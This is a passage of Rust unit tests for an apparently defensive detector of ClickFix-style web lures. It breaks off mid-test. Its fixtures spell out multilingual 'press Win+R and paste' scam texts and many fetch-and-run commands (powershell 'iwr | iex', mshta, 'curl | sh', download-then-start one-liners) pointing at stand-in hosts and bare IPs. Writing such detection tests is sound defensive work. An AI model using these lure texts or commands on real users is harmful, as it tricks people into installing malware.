            snap.text.contains(&pretext) && pretext.contains("jesteś"),
            "{pretext}"
        );
        let steps = said(ReasonId::RunInstructions);
        assert!(
            steps.contains("Win+R") || steps.contains("Ctrl+V"),
            "{steps}"
        );
        // The command is not page text: still as the engine defanged it.
        assert!(!said(ReasonId::ClipboardCommand).contains("198.51.100.4/a"));
    }

    #[test]
    fn steps_given_only_in_a_dialog_count() {
        use crate::snapshot::Clipboard;
        use crate::verdict::Options;
        let snap = |dialogs: &[&str]| Snapshot {
            url: "https://files-share.example/doc".into(),
            title: "Document".into(),
            text: "Loading the document. Please wait.".into(),
            clipboard: Clipboard {
                text: "powershell -w hidden -c \"iwr https://cdn.example/a.ps1 | iex\"".into(),
                via: "execCommand".into(),
            },
            dialog_texts: dialogs.iter().map(|d| d.to_string()).collect(),
            ..Default::default()
        };
        let judge = |s: &Snapshot| crate::engine::analyse(s, &Options::default());
        // The page alone: a command copy with no steps stays silent.
        assert_ne!(judge(&snap(&[])).kind, Kind::Clickfix);
        // The steps in an alert() make it ClickFix.
        let v = judge(&snap(&[
            "To open the document: press Windows key + R, then Ctrl+V, then Enter.",
        ]));
        assert_eq!((v.level, v.kind), (Level::Scam, Kind::Clickfix));
        // A dialog that talks about scams does not take a page's ClickFix verdict away.
        let page = Snapshot {
            text: CAPTCHA.into(),
            ..snap(&["Beware of scams: never paste commands a web page gives you."])
        };
        assert_eq!(judge(&page).kind, Kind::Clickfix);
        // Nothing copied: the command and its steps shown in an alert() to be typed by hand.
        let typed = Snapshot {
            clipboard: Clipboard::default(),
            ..snap(&[
                "Your document is protected. Verify you are human: press Win+R, type \
                 mshta https://cdn.example/verify.hta and press Enter.",
            ])
        };
        let v = judge(&typed);
        assert_eq!((v.level, v.kind), (Level::Scam, Kind::Clickfix));
    }

    /// A snapshot of `text` on `url` whose page copied `clip` (nothing when empty).
    fn snap_of(url: &str, title: &str, text: &str, clip: &str) -> Snapshot {
        Snapshot {
            url: url.into(),
            title: title.into(),
            text: text.into(),
            clipboard: crate::snapshot::Clipboard {
                text: clip.into(),
                via: if clip.is_empty() { "" } else { "writeText" }.into(),
            },
            ..Default::default()
        }
    }

    fn reasons(s: &Snapshot) -> Option<Vec<ReasonId>> {
        let v = crate::engine::analyse(s, &crate::verdict::Options::default());
        (v.kind == Kind::Clickfix).then(|| v.reasons.iter().map(|r| r.id).collect())
    }

    #[test]
    fn a_command_copied_and_not_shown_that_fetches_from_a_bare_ip_needs_no_words() {
        // The steps drawn in an image with no alt text, the check in a language without a word
        // list: the copy itself is the lure (eval24: steps only in a PNG).
        let clip = "mshta http://198.51.100.23/v.hta";
        let text = "تحقق من أنك إنسان\nأنا لست روبوتًا\nاتبع الخطوات في الصورة.";
        let r = reasons(&snap_of("https://tahaqquq.example/", "تحقق", text, clip)).unwrap();
        assert!(r.contains(&ReasonId::UnseenCommand), "{r:?}");
        // A WebDAV share on another site, or a hidden-window download from a bare IP: the same.
        for clip in [
            r"rundll32 \\cdn-docs.example@SSL\DavWWWRoot\v\check.dll,Run",
            "powershell -w h -c \"iwr http://203.0.113.61/k|iex\"",
            "curl -s http://198.51.100.9/z.bat -o %TEMP%\\z.bat && %TEMP%\\z.bat",
        ] {
            assert!(
                reasons(&snap_of("https://x.example/", "", text, clip)).is_some(),
                "{clip}"
            );
        }
        // Shown on the page (a write-up's or an advisory's code block): not unseen.
        let shown = format!("Example of a malicious command:\n{clip}");
        assert_eq!(
            reasons(&snap_of("https://x.example/", "", &shown, clip)),
            None
        );
        // From an https host name, a plain http address, a private address, or the page's own
        // WebDAV share, with nothing around it: a copy as any other (silent without steps).
        for (url, clip) in [
            (
                "https://x.example/",
                "mshta https://apps.example.com/inventory.hta",
            ),
            (
                "https://x.example/",
                "powershell -c \"iwr http://dl.example.org/t.ps1 | iex\"",
            ),
            ("https://x.example/", "mshta http://10.1.2.3/inventory.hta"),
            (
                "https://x.example/",
                "mshta http://localhost:8080/inventory.hta",
            ),
            (
                "https://intranet.uni.example/",
                r"rundll32 \\files.uni.example@SSL\DavWWWRoot\t\x.dll,Run",
            ),
        ] {
            assert_eq!(reasons(&snap_of(url, "", "Tools", clip)), None, "{clip}");
        }
    }

    #[test]
    fn a_copied_command_not_shown_counts_with_any_step_check_or_story() {
        let url = "https://mirror-verify.example/";
        // Linux: Ctrl+Alt+T and Ctrl+Shift+V, no Win+R, a `wget | sh` (no strong shape).
        let clip = "wget -qO- http://198.51.100.4/v | sh";
        let steps = "Before the download: press Ctrl+Alt+T, paste with Ctrl+Shift+V, Enter.";
        let r = reasons(&snap_of(url, "Mirror", steps, clip)).unwrap();
        assert!(r.contains(&ReasonId::UnseenCommand), "{r:?}");
        // Steps with no Run box in a language with few words: the shell named ("ketik cmd").
        let clip = r"cmd /c start \\198.51.100.7@80\perbaiki.bat";
        let steps = "Tekan tombol Windows, ketik cmd, klik kanan untuk menempel.";
        assert!(reasons(&snap_of(url, "Zoom", steps, clip)).is_some());
        // A story and the Start menu ("type PowerShell"), plain http from another site.
        let clip = "powershell -c \"iwr http://fonts-cdn.example.net/f.ps1 | iex\"";
        let story = "This document cannot be displayed. Click Start, type PowerShell, \
                     right-click to paste.";
        assert!(reasons(&snap_of(url, "Viewer", story, clip)).is_some());
        // Review 25 M1: a long docs page whose install command lies past the text bound, and a
        // docs page's hidden tab copying a hidden-window install from its own https site.
        let long = format!(
            "Open Terminal and paste. {}\ncurl -fsSL http://get.oldtool.example/install.sh | sh",
            "option --flag does a thing. ".repeat(2400)
        );
        let clip = "curl -fsSL http://get.oldtool.example/install.sh | sh";
        let snap = snap_of("https://docs.oldtool-project.example/", "", &long, clip).bounded();
        assert_eq!(reasons(&snap), None);
        let clip = "powershell -NoProfile -WindowStyle Hidden -Command \
                    \"iwr https://cloud-docs.example/install.ps1 | iex\"";
        let text = "Install on macOS: open Terminal and paste brew install cloud-cli. Something \
                    went wrong? See Troubleshooting.";
        assert_eq!(
            reasons(&snap_of("https://cloud-docs.example/", "", text, clip)),
            None
        );
        // Nothing around a `curl | sh` from a bare IP: no verdict.
        let clip = "curl -s http://198.51.100.4/v | sh";
        assert_eq!(reasons(&snap_of(url, "Mirror", "Downloads", clip)), None);
        // Honest twins: an installer the page shows (a copied line with an attribution added),
        // its own http installer, a dashboard's join command on a private address.
        for (url, text, clip) in [
            (
                "https://forum.example-linux.org/t/1",
                "Fixed it with the vendor's script, open a terminal and paste:\n\
                 curl http://198.51.100.77/setup.sh | sh",
                "curl http://198.51.100.77/setup.sh | sh\n\nRead more: https://forum.example-linux.org/t/1",
            ),
            (
                "http://install.perlish.example.org/",
                "Open Terminal and paste. Out of date? Run it again.",
                "curl -L http://install.perlish.example.org | bash",
            ),
            (
                "https://cluster.example-admin.net/nodes",
                "Add a node: paste the command in a terminal on the new node.",
                "curl -sfL http://10.0.4.12:6443/join | sh -s - --token abc",
            ),
        ] {
            assert_eq!(reasons(&snap_of(url, "", text, clip)), None, "{text}");
        }
    }

    #[test]
    fn a_command_typed_by_hand_that_fetches_from_a_bare_ip_or_share() {
        // macOS, nothing copied: Terminal and a `curl | zsh` from a bare IP under a story.
        let text = "Votre version de Safari n'est plus à jour. Pour installer la mise à jour \
                    de sécurité, ouvrez le Terminal et tapez la commande suivante :\n\
                    curl -s http://198.51.100.2/upd | zsh\nPuis appuyez sur Entrée.";
        let r = reasons(&snap_of("https://maj-safari.example/", "Safari", text, "")).unwrap();
        assert!(r.contains(&ReasonId::TypedCommand), "{r:?}");
        // mshta given a bare IP with no scheme fetches from it (eval23's pt-PT page, invented).
        let text = "Prima Win+R e escreva:\nmshta 198.51.100.3\ne prima Enter.";
        let r = reasons(&snap_of("https://verificar.example/", "", text, "")).unwrap();
        assert!(r.contains(&ReasonId::TypedCommand), "{r:?}");
        // Win+R and a .bat over WebDAV on a bare IP: the share tells its own story.
        let text =
            "Accesso\npremi Win+R, digita:\ncmd /c start \\\\198.51.100.7@80\\verifica.bat\n\
                    e premi Invio";
        let r = reasons(&snap_of("https://verifica.example/", "Accesso", text, "")).unwrap();
        assert!(r.contains(&ReasonId::TypedCommand), "{r:?}");
        // Honest twins: an IT how-to (Terminal, its own https installer), a help page teaching
        // Win+R with an intranet share, API docs' curl lines, another site's http installer shown
        // with no story, a project's own http installer under "out of date".
        for (url, text) in [
            (
                "https://help.example-corp.com/mac",
                "Your Mac is out of date? Open Terminal and type the following command:\n\
                 sudo softwareupdate -i -a\nThen: curl -fsSL https://vpn.example-corp.com/i.sh | sudo bash",
            ),
            (
                "https://support.example-it.edu/dns",
                "Press Win+R, type cmd and press Enter, then type:\nipconfig /flushdns\n\
                 To map the drive type: cmd /c net use Z: \\\\files.example-it.edu\\home",
            ),
            (
                "https://docs.example-api.io/",
                "Open a terminal and type:\ncurl http://localhost:8080/health\n\
                 curl http://203.0.113.50/status",
            ),
            (
                "https://support.example-isp.test/",
                "No internet? Press Win+R and type:\ncmd /k ping 198.51.100.1\n\
                 Local tools: mshta C:\\Tools\\inventory.hta or mshta 10.0.0.5",
            ),
            (
                "https://blog.example.net/tools",
                "Open Terminal and type the following:\ncurl -L http://get.tool.example.org | sh",
            ),
            (
                "http://perlish.example.org/",
                "Out of date? Open Terminal and type:\ncurl -L http://install.perlish.example.org | bash",
            ),
        ] {
            assert_eq!(reasons(&snap_of(url, "", text, "")), None, "{text}");
        }
    }
    #[test]
    fn an_installer_saved_and_started_is_no_documentation_by_itself() {
        // A page that gives a reason to install something to see or join the page itself, with
        // the same shape as vendors' docs (an https redirect saved as a named installer and
        // started) and install words, is a lure (review 27 H3): its page is not the product's
        // site, or (on a site named after it) its reason is its film or meeting (review 29 CP-M1).
        for (url, title, text, c) in [
            (
                "https://films-hd.example/movie/77",
                "Install the player to watch this film",
                "This film needs the HD player.\nInstall the player\nPress Win+X and choose \
                 Windows PowerShell (Admin), then run the following command:\n{c}\nCopy\nThen \
                 reload this page.",
                "Invoke-WebRequest -Uri https://cdn.hd-player.test/get -OutFile .\\HdPlayer.exe; \
                 Start-Process .\\HdPlayer.exe",
            ),
            (
                "https://meet-join.example/j/5512",
                "Join meeting - audio setup",
                "Ihr Meeting beginnt gleich. Installieren Sie die Audiokomponente, um \
                 teilzunehmen.\nDrücken Sie Win+X, wählen Sie Windows PowerShell (Administrator) \
                 und führen Sie den folgenden Befehl aus:\n{c}\nKopieren",
                "iwr https://files.meet-audio.test/d -OutFile $env:TEMP\\MeetAudio.msi; \
                 Start-Process msiexec.exe -ArgumentList '/i', \"$env:TEMP\\MeetAudio.msi\", \
                 '/quiet'",
            ),
            (
                "https://clipplayer.example/v/3390",
                "Install ClipPlayer",
                "Install ClipPlayer\nTo watch this clip, install ClipPlayer for Windows.\nPress \
                 Win+X and choose Windows PowerShell (Admin), then run the following \
                 command:\n{c}\nCopy",
                "Invoke-WebRequest -Uri https://cdn.clipplayer-dl.test/win -OutFile \
                 .\\ClipPlayer.exe; Start-Process .\\ClipPlayer.exe",
            ),
        ] {
            let s = snap_of(url, title, &text.replace("{c}", c), c);
            assert!(reasons(&s).is_some(), "{text}");
        }
        // On rosebakery.example, a kit's forms of the vendor's template (review 30 CV-H1, CV-M2):
        // the site's name anywhere but in a domain or code-host account of its own, a decoy URL
        // rewritten or fetched beside the kit's, a second download without a scheme, a share or
        // another program started, a variable, the command kept off the page.
        let text = "Our menu opens in the Rosebakery Reader. Install the Rosebakery Reader for \
                    Windows.\nPress Win+X and choose Windows PowerShell (Admin), then run the \
                    following command:\n{c}\nCopy";
        for c in [
            // The name in the file, a query, a subdomain, a kit domain containing it, shared
            // hosting, another owner's code-host URL.
            "Invoke-WebRequest -Uri https://cdn.files-mirror.test/r -OutFile \
             $env:TEMP\\rosebakery-reader.exe; Start-Process $env:TEMP\\rosebakery-reader.exe",
            "Invoke-WebRequest -Uri https://cdn.files-mirror.test/r?ref=rosebakery -OutFile \
             .\\reader-setup.exe; Start-Process .\\reader-setup.exe",
            "Invoke-WebRequest -Uri https://rosebakery.files-mirror.test/r -OutFile .\\Reader.exe; \
             Start-Process .\\Reader.exe",
            "Invoke-WebRequest -Uri https://dl.myrosebakery-dl.test/r -OutFile .\\Reader.exe; \
             Start-Process .\\Reader.exe",
            "Invoke-WebRequest -Uri https://rosebakery-cdn.netlify.app/r -OutFile .\\Reader.exe; \
             Start-Process .\\Reader.exe",
            "Invoke-WebRequest -Uri https://github.com/kit-owner/r/releases/download/v1/r.exe\
             ?src=github.com/rosebakery -OutFile .\\Reader.exe; Start-Process .\\Reader.exe",
            "Invoke-WebRequest -Uri https://github.com/rosebakery/../kit-owner/r/releases/\
             download/v1/r.exe -OutFile .\\Reader.exe; Start-Process .\\Reader.exe",
            "Invoke-WebRequest -Uri https://kit.test\\.rosebakery-cdn.test/r -OutFile \
             .\\Reader.exe; Start-Process .\\Reader.exe",
            // A decoy naming the site (review 30 d20, d21, d23).
            "$u = 'https://rosebakery-cdn.test/r'.Replace('rosebakery-cdn.test','cdn.kit.test'); \
             Invoke-WebRequest -Uri $u -OutFile $env:TEMP\\reader.exe; Start-Process \
             $env:TEMP\\reader.exe",
            "$h = 'kit.test'; Invoke-WebRequest -Uri \"https://rosebakery-cdn.test.$h/r\" -OutFile \
             $env:TEMP\\reader.exe; Start-Process $env:TEMP\\reader.exe",
            "Invoke-WebRequest -Uri https://rosebakery-cdn.test/r -OutFile $env:TEMP\\r.exe; \
             Start-Process $env:TEMP\\r.exe; Invoke-WebRequest cdn.kit.test/s -OutFile \
             $env:TEMP\\s.exe; Start-Process $env:TEMP\\s.exe",
            "Invoke-WebRequest -Uri https://rosebakery-cdn.test/r -OutFile $env:TEMP\\r.exe; \
             Start-Process $env:TEMP\\r.exe\niwr cdn.kit.test/s | iex",
            "Invoke-WebRequest -Uri https://rosebakery-cdn.test/r -Proxy http://cdn.kit.test:80 \
             -OutFile .\\r.exe; Start-Process .\\r.exe",
            // Saved, then something else started: a share, a protocol, a shell.
            "Invoke-WebRequest -Uri https://rosebakery-cdn.test/r -OutFile .\\r.exe; Start-Process \
             \\\\kit.test@SSL\\s\\r.exe",
            "Invoke-WebRequest -Uri https://rosebakery-cdn.test/r -OutFile \\\\kit.test\\s\\r.exe; \
             Start-Process \\\\kit.test\\s\\r.exe",
            "Invoke-WebRequest -Uri https://rosebakery-cdn.test/r -OutFile ms-msdt:/id; \
             Start-Process ms-msdt:/id",
            "Invoke-WebRequest -Uri https://rosebakery-cdn.test/r -OutFile \
             x\\\\kit.test\\d\\r.exe; Start-Process \\\\kit.test\\d\\r.exe",
            "Invoke-WebRequest -Uri https://rosebakery-cdn.test/r -OutFile \
             x\\\\203.0.113.44\\d\\r.exe; Start-Process \\\\203.0.113.44\\d\\r.exe",
            "Invoke-WebRequest -Uri https://rosebakery-cdn.test/r -OutFile .\\r.exe; Start-Process \
             powershell -ArgumentList .\\r.exe",
            // No scheme: PowerShell fetches it over http (review 31 MAIN-M1).
            "Invoke-WebRequest cdn.kit.test/r.exe -OutFile $env:TEMP\\r.exe; Start-Process \
             $env:TEMP\\r.exe",
            "iwr cdn.kit.test:8080/r.msi -OutFile $env:TEMP\\r.msi; Start-Process msiexec \
             -ArgumentList /i, $env:TEMP\\r.msi",
            // On the site itself, but in its upload folder or behind its redirect (review 31
            // MAIN-M2): what a kit on a broken-into site uploads, or where it sends the fetch.
            "Invoke-WebRequest -Uri https://rosebakery.example/wp-content/uploads/2026/11/r.exe \
             -OutFile $env:TEMP\\r.exe; Start-Process $env:TEMP\\r.exe",
            "Invoke-WebRequest -Uri https://www.rosebakery.example/go?to=cdn.kit.test/r -OutFile \
             $env:TEMP\\r.exe; Start-Process $env:TEMP\\r.exe",
            "Invoke-WebRequest -Uri https://rosebakery.example/out?u=https%3A%2F%2Fcdn.kit.test%2Fr \
             -OutFile $env:TEMP\\r.exe; Start-Process $env:TEMP\\r.exe",
            "irm https://rosebakery.example/uploads/fix.ps1 | iex",
        ] {
            let s = snap_of(
                "https://rosebakery.example/menu",
                "Rosebakery Reader",
                &text.replace("{c}", c),
                c,
            );
            assert!(reasons(&s).is_some(), "{c}");
        }
        // The vendor's template itself, kept off the page ("press Ctrl+V"), or on a site named
        // like the product with a film or meeting as its reason (review 29 CP-M1).
        let c = "Invoke-WebRequest -Uri https://dl.rosebakery-cdn.test/r -OutFile .\\Reader.exe; \
                 Start-Process .\\Reader.exe";
        let hidden = "Install the Rosebakery Reader for Windows.\nPress Win+X and choose Windows \
                      PowerShell (Admin), press Ctrl+V and press Enter.";
        let s = snap_of("https://rosebakery.example/menu", "Reader", hidden, c);
        assert!(reasons(&s).is_some(), "{hidden}");
        for reason in [
            "To watch the video, install",
            "Pour rejoindre la réunion, installez",
        ] {
            let t = text.replace("Install", reason).replace("{c}", c);
            let s = snap_of("https://rosebakery.example/menu", "Reader", &t, c);
            assert!(reasons(&s).is_some(), "{t}");
        }
    }

    #[test]
    fn vendor_install_guides_fetching_from_a_release_host() {
        // Invented honest guides on the vendor's own site: the command saves and starts the
        // product's installer from its code host's release or its CDN on a domain named after
        // the site, under install words, with no reason drawn from the page itself (review 27
        // H3's other side, review 30 CV-H1's fix: the vendor's template only).
        for (url, title, text, c) in [
            (
                "https://hammer.example/docs/windows",
                "Install Hammer on Windows - Hammer docs",
                "Install on Windows\nPress Win+X and choose Windows PowerShell (Admin), then run \
                 the following command:\n{c}\nCopy\nThe installer adds hammer to your PATH.",
                "Invoke-WebRequest -Uri https://github.com/hammer-cli/hammer/releases/download/\
                 v1.8.0/hammer-1.8.0-x64.exe -OutFile .\\hammer-setup.exe; Start-Process \
                 .\\hammer-setup.exe",
            ),
            (
                "https://docs.kessel.example/de/installieren",
                "Kessel CLI unter Windows installieren",
                "Installation unter Windows\nDrücken Sie Win+X, wählen Sie Windows PowerShell \
                 (Administrator) und führen Sie den folgenden Befehl aus:\n{c}\nKopieren",
                "$ProgressPreference = 'SilentlyContinue'; Invoke-WebRequest -Uri \
                 https://releases.kessel-cdn.test/stable/windows -OutFile .\\kessel-setup.msi; \
                 Start-Process msiexec.exe -Wait -ArgumentList '/i kessel-setup.msi /quiet'",
            ),
            (
                "https://www.notaspinta.example/es/descargar",
                "Descargar NotasPinta para Windows",
                "Instalación en Windows\nPulse Win+X, elija Windows PowerShell (Administrador) y \
                 ejecute el siguiente comando:\n{c}\nCopiar",
                "iwr \"https://cdn.notaspinta-files.test/win/x64\" -OutFile \
                 \"$env:TEMP\\NotasPintaSetup.exe\"; Start-Process \
                 \"$env:TEMP\\NotasPintaSetup.exe\"",
            ),
        ] {
            let s = snap_of(url, title, &text.replace("{c}", c), c);
            assert_eq!(reasons(&s), None, "{text}");
            // On another site (an IT department's, a mirror's: stated in DETECTION.md), or with
            // anything added to the line, it is what it was.
            let s = snap_of(
                "https://mirror-dl.example/",
                title,
                &text.replace("{c}", c),
                c,
            );
            assert!(reasons(&s).is_some(), "{text}");
            for more in [
                format!("{c}; iwr 203.0.113.80/k | iex"),
                format!("{c} -WindowStyle Hidden"),
                c.replacen("-OutFile", "-UserAgent x -OutFile", 1),
            ] {
                let s = snap_of(url, title, &text.replace("{c}", &more), &more);
                assert!(reasons(&s).is_some(), "{more}");
            }
        }
        // Run from the pipe, nothing saved: not this shape (a published `.ps1` or the page's own
        // site only, as before).
        let c = "irm https://cdn.hammer-get.test/win | iex";
        let text = format!(
            "Install on Windows\nPress Win+X and choose Windows PowerShell (Admin), then run the \
             following command:\n{c}\nCopy"
        );
        let s = snap_of("https://hammer.example/docs/", "Install Hammer", &text, c);
        assert!(reasons(&s).is_some(), "{text}");
    }

    #[test]
    fn own_site_downloads_and_addresses_without_a_scheme() {
        // Invented vendor pages downloading from their own site (a release folder, a short
        // address without a scheme, a bare host) stay documentation; the same command on another
        // site, or from the site's upload folder or through its redirect, is not.
        let text = "Install Quillmark for Windows\nPress Win+X and choose Windows PowerShell \
                    (Admin), then run the following command:\n{c}\nCopy";
        for c in [
            "Invoke-WebRequest -Uri https://quillmark.example/downloads/QuillmarkSetup.exe \
             -OutFile $env:TEMP\\QuillmarkSetup.exe; Start-Process $env:TEMP\\QuillmarkSetup.exe",
            "irm quillmark.example/win | iex",
            "irm get.quillmark.example | iex",
            "irm https://www.quillmark.example/install.ps1?channel=stable | iex",
        ] {
            let t = text.replace("{c}", c);
            let s = snap_of("https://www.quillmark.example/docs", "Quillmark", &t, c);
            assert_eq!(reasons(&s), None, "{c}");
        }
        for (url, c) in [
            (
                "https://mirror-dl.example/",
                "irm quillmark.example/win | iex",
            ),
            (
                "https://www.quillmark.example/docs",
                "irm https://quillmark.example/wp-content/uploads/win.ps1 | iex",
            ),
            (
                "https://www.quillmark.example/docs",
                "irm https://quillmark.example/r?url=https://cdn.kit.test/w | iex",
            ),
        ] {
            let t = text.replace("{c}", c);
            let s = snap_of(url, "Quillmark", &t, c);
            assert!(reasons(&s).is_some(), "{c}");
        }
        // A version is no address (`--version 1.2.3` was read as a public IP: a docs page warned).
        let c = "curl -fsSL https://get.quillmark.example/install.sh | sh -s -- --version 1.2.3";
        let t = format!("Install Quillmark on macOS\nOpen Terminal and run:\n{c}\nCopy");
        let s = snap_of("https://docs.quillmark.example/", "Install", &t, "");
        assert_eq!(reasons(&s), None);
        let s = snap_of("https://docs.quillmark.example/", "Install", &t, c);
        assert_eq!(reasons(&s), None);
        assert!(!shapes_of("mshta 1.2.3").contains(&Shape::MshtaUrl));
        assert!(shapes_of("mshta 198.51.100.3:80/v").contains(&Shape::MshtaUrl));
    }

    #[test]
    fn typed_commands_from_a_bare_ip_or_behind_a_human_check() {
        // Nothing copied, the command shown in big type: a bare public IP given to a program that
        // fetches (no scheme: plain http) tells its own story (eval25: Win+R, conhost --headless).
        for (url, text) in [
            (
                "https://acces-securise.example/",
                "Accès sécurisé\nWin+R puis tapez : conhost --headless powershell iwr \
                 198.51.100.61/a|iex\nEntrée",
            ),
            (
                "https://verifica.example/",
                "Premi Win+R e digita:\npowershell -c \"iwr 198.51.100.8/v.ps1|iex\"\npoi Invio.",
            ),
            (
                "https://pruefung.example/",
                "Öffnen Sie das Terminal und geben Sie ein:\ncurl -s 203.0.113.77/m | bash",
            ),
            // A plain `curl https://… | sh` under a human check, no installation framed.
            (
                "https://verificacion.example/",
                "Verifique que es humano\nNo soy un robot\nAbra Terminal (Cmd + Espacio, escriba \
                 Terminal) y escriba:\ncurl -fsSL https://verificacion.example/c.sh | sh",
            ),
            (
                "https://cf-check.example/",
                "Verify you are human\nPress Command + Space, type Terminal and press Return, \
                 then type:\ncurl -fsSL https://cf-check.example/v.sh | sh",
            ),
            (
                "https://verif-fr.example/",
                "Vérifiez que vous êtes humain\nOuvrez le Terminal (Cmd + Espace, tapez Terminal) \
                 et tapez :\ncurl -fsSL https://verif-fr.example/c.sh | bash",
            ),
            (
                "https://pruef-de.example/",
                "Bestätigen Sie, dass Sie ein Mensch sind\nÖffnen Sie das Terminal und geben Sie \
                 ein:\ncurl -fsSL https://pruef-de.example/c.sh | bash",
            ),
            // The script on another site, named `install.sh`: a file name is no install word
            // (review 27).
            (
                "https://cloud-gate.example/",
                "Verify you are human\nTo finish the check, open Terminal, type this and press \
                 Return:\ncurl -fsSL https://get.mac-helper.test/install.sh | bash",
            ),
            // Linux: a terminal opened with Ctrl+Alt+T, wget from a bare IP.
            (
                "https://verif.example/",
                "Verifique que es humano\nAbra una terminal (Ctrl+Alt+T) y escriba:\n\
                 wget -qO- 203.0.113.40/c | sh",
            ),
        ] {
            let r = reasons(&snap_of(url, "", text, "")).unwrap_or_default();
            assert!(r.contains(&ReasonId::TypedCommand), "{text}: {r:?}");
        }
        // Honest: install docs (Terminal, own https installer, a CAPTCHA library's docs naming its
        // check), a how-to fixing "command not found", a LAN IP, a health check, a ping, a local
        // headless script.
        for (url, text) in [
            (
                "https://brew-pkg.example/",
                "Install Homebrew\nOpen Terminal (Cmd+Space, type Terminal) and type:\n\
                 /bin/bash -c \"$(curl -fsSL https://raw.brew-pkg.example/install.sh)\"",
            ),
            (
                "https://rust-fr.example/installer",
                "Installer Rust\nOuvrez le Terminal et tapez la commande suivante :\n\
                 curl --proto '=https' --tlsv1.2 -sSf https://sh.rust-fr.example | sh",
            ),
            (
                "https://captcha-lib.example/docs",
                "captcha-lib adds a 'Verify you are human' check to your forms.\nInstall\n\
                 Open Terminal and type:\ncurl -fsSL https://get.captcha-lib.example | sh",
            ),
            (
                "https://dev-blog.example/nvm",
                "Fehlerbehebung: nvm: command not found\nÖffnen Sie das Terminal und geben Sie \
                 ein:\ncurl -o- https://raw.nvm-project.example/v0.40.1/install.sh | bash",
            ),
            (
                "https://homelab.example/pi",
                "Open Terminal and type:\ncurl -s 192.168.1.20/setup.sh | bash",
            ),
            (
                "https://devnotes.example/api",
                "Open Terminal on your laptop and run:\ncurl 203.0.113.10:8080/health",
            ),
            // An API doc pretty-prints a gateway's JSON: `python3 -m json.tool` reads data
            // (review 28 C-M1), with or without a scheme.
            (
                "https://docs.example-sensors.test/status",
                "Status API\nEach gateway answers on port 80. Open Terminal and type, with your \
                 gateway's address:\ncurl -s 203.0.113.25/api/status | python3 -m json.tool",
            ),
            (
                "https://docs.example-sensors.test/status",
                "Status API\nOpen Terminal and type, with your gateway's address:\n\
                 curl -s http://203.0.113.25/api/status | python3 -m json.tool",
            ),
            (
                "https://sysadmin-tips.example/conhost",
                "Press Win+R and type:\nconhost --headless powershell -File C:\\Scripts\\backup.ps1\n\
                 The backup runs without a console window.",
            ),
        ] {
            assert_eq!(reasons(&snap_of(url, "", text, "")), None, "{text}");
        }
    }

    #[test]
    fn a_download_saved_then_run_in_any_form() {
        // Review 32 CF32-M3: the shape is a download saved to a path and that same path run,
        // however a kit words either half (invented commands; kit host cdn.relay-files.test).
        for clip in [
            "iwr https://cdn.relay-files.test/r.exe -OutFile r.exe; .\\r.exe",
            "irm https://cdn.relay-files.test/r -OutFile $env:TEMP\\r.exe; ii $env:TEMP\\r.exe",
            "iwr https://cdn.relay-files.test/r -OutFile \"$env:TEMP\\r.exe\"; & \"$env:TEMP\\r.exe\"",
            "iwr https://cdn.relay-files.test/r -o $env:TEMP\\r.exe; saps $env:TEMP\\r.exe",
            "Invoke-WebRequest https://cdn.relay-files.test/r -OutFile:$env:APPDATA\\r.scr; & $env:APPDATA\\r.scr",
            "iwr https://cdn.relay-files.test/r -OutFile C:\\Users\\Public\\r.exe; C:\\Users\\Public\\r.exe",
            "$p=\"$env:TEMP\\r.exe\"; iwr https://cdn.relay-files.test/r -OutFile $p; & $p",
            "Start-BitsTransfer https://cdn.relay-files.test/r $env:TEMP\\r.exe; & $env:TEMP\\r.exe",
            "(New-Object Net.WebClient).DownloadFile('https://cdn.relay-files.test/r', 'C:\\Users\\Public\\r.exe'); . C:\\Users\\Public\\r.exe",
            "iwr https://cdn.relay-files.test/r.dll -OutFile $env:TEMP\\r.dll; rundll32 $env:TEMP\\r.dll,Start",
            "iwr https://cdn.relay-files.test/r.zip -OutFile r.zip; Expand-Archive r.zip; .\\r\\r.exe",
            "iwr cdn.relay-files.test/s.bat -OutFile $env:TEMP\\s.bat; cmd /c $env:TEMP\\s.bat",
        ] {
            assert!(
                shapes_of(clip).contains(&Shape::PowerShellDownload),
                "{clip}: {:?}",
                shapes_of(clip)
            );
        }
        for clip in [
            "curl.exe -Lo $env:TEMP\\r.exe https://cdn.relay-files.test/r; Start-Process $env:TEMP\\r.exe",
            "curl -sLo %TEMP%\\r.exe https://cdn.relay-files.test/r && start /b %TEMP%\\r.exe",
            "curl.exe --output=$env:TEMP\\r.exe https://cdn.relay-files.test/r; & $env:TEMP\\r.exe",
            "cmd /c curl -s https://cdn.relay-files.test/s > %TEMP%\\s.bat && %TEMP%\\s.bat",
            "pushd %TEMP% & curl -O https://cdn.relay-files.test/r.exe & r.exe",
            "cmd /c curl -Lo %TEMP%\\a.msi https://cdn.relay-files.test/a.msi && msiexec /i %TEMP%\\a.msi /qn",
        ] {
            assert!(
                shapes_of(clip).contains(&Shape::DownloadStart),
                "{clip}: {:?}",
                shapes_of(clip)
            );
        }
        // Saved and not run, or run as data; a Unix download is not a Windows start.
        for clip in [
            "iwr https://x.example/tool.exe -OutFile tool.exe; Get-FileHash tool.exe",
            "curl.exe -Lo %TEMP%\\report.csv https://x.example/r.csv",
            "cmd /c curl -o x.exe https://x.example/x.exe",
            "curl -LO https://x.example/tool && chmod +x tool && ./tool version",
        ] {
            let s = shapes_of(clip);
            assert!(
                !s.contains(&Shape::DownloadStart) && !s.contains(&Shape::PowerShellDownload),
                "{clip}: {s:?}"
            );
        }
        // A hacked site's lure with install words (en, de) and a public IP with no scheme.
        let text = "Our menu opens in the Harbor Reader. Install the Harbor Reader for Windows.\n\
                    Press Win+X and choose Terminal (Admin), then run the following command:\n{c}\nCopy";
        for c in [
            "iwr https://cdn.relay-files.test/r.exe -OutFile r.exe; .\\r.exe",
            "curl.exe -sLo $env:TEMP\\r.exe https://cdn.relay-files.test/r; & $env:TEMP\\r.exe",
            "iwr 203.0.113.22/r.exe -OutFile $env:TEMP\\r.exe; Start-Process $env:TEMP\\r.exe",
        ] {
            let s = snap_of(
                "https://harbor-diner.example/menu",
                "Menu",
                &text.replace("{c}", c),
                c,
            );
            assert!(reasons(&s).is_some(), "{c}");
        }
        // The vendor's own pages stay documentation (a curl download run is not, from any site: a
        // kit on a broken-into site serves it from the site's root too, review 33 m42-m44).
        for (url, c) in [
            (
                "https://www.outilpro.example/telecharger",
                "iwr https://www.outilpro.example/telechargement/OutilPro.exe -OutFile $env:TEMP\\OutilPro.exe; & $env:TEMP\\OutilPro.exe",
            ),
            (
                "https://docs.tern-cli.example/install/windows",
                "iwr https://get.tern-cli.example/install.ps1 -OutFile install.ps1; .\\install.ps1",
            ),
            (
                "https://pixelmint.example/download",
